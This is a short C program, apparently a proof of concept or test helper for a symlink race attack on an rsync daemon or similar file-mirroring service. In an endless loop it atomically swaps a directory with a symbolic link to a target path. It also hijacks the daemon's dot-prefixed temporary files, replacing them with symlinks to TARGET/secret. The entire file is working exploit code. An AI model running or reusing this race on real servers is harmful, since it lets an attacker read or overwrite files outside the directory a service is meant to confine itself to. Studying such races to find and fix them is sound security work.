/*
 * swap DIRECTORY NAME TARGET: until it is killed, NAME in DIRECTORY, of which we are the owner, is
 * in turn a directory and a symbolic link to TARGET, exchanged in one step. Files come and go in
 * it, so that there is something to mirror; and whatever temporary name the daemon or rsync makes
 * in DIRECTORY is taken away and becomes a link to TARGET/secret.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int directory;

static void plant(const char *secret)
{
	DIR *listing = fdopendir(openat(directory, ".", O_RDONLY | O_DIRECTORY));
	const struct dirent *entry;

	while (listing && (entry = readdir(listing)))
		if (entry->d_name[0] == '.' &&
		    strspn(entry->d_name, ".") != strlen(entry->d_name) &&
		    renameat(directory, entry->d_name, directory, "taken") == 0)
			symlinkat(secret, directory, entry->d_name);
	if (listing)
		closedir(listing);
}

int main(int argc, char **argv)
{
	const char *name = argv[2], *target = argv[3];
	char other[256], secret[4096];

	if (argc != 4 || (directory = open(argv[1], O_RDONLY | O_DIRECTORY)) < 0)
		return 2;
	snprintf(other, sizeof(other), "%s.other", name);
	snprintf(secret, sizeof(secret), "%s/secret", target);
	for (unsigned long round = 0;; round++) {
		int inside;

		/* The daemon may have removed or replaced either. */
		mkdirat(directory, name, 0755);
		symlinkat(target, directory, other);
		renameat2(directory, name, directory, other, RENAME_EXCHANGE);
		if (round % 8 == 0 &&
		    (inside = openat(directory, other, O_RDONLY | O_DIRECTORY | O_NOFOLLOW)) >= 0) {
			int file = openat(inside, "secret", O_WRONLY | O_CREAT | O_NOFOLLOW, 0644);

			if (file >= 0) {
				dprintf(file, "harmless %lu\n", round);
				close(file);
			}
			if (round % 64 == 0)
				unlinkat(inside, "secret", 0);
			close(inside);
		}
		if (round % 16 == 0)
			plant(secret);
		/* Pipes and links are made by name. */
		if (round % 32 == 0) {
			unlinkat(directory, "pipe", 0);
			mknodat(directory, "pipe", S_IFIFO | 0666, 0);
			unlinkat(directory, "link", 0);
			symlinkat(round % 64 ? "one" : "other", directory, "link");
		}
	}
}
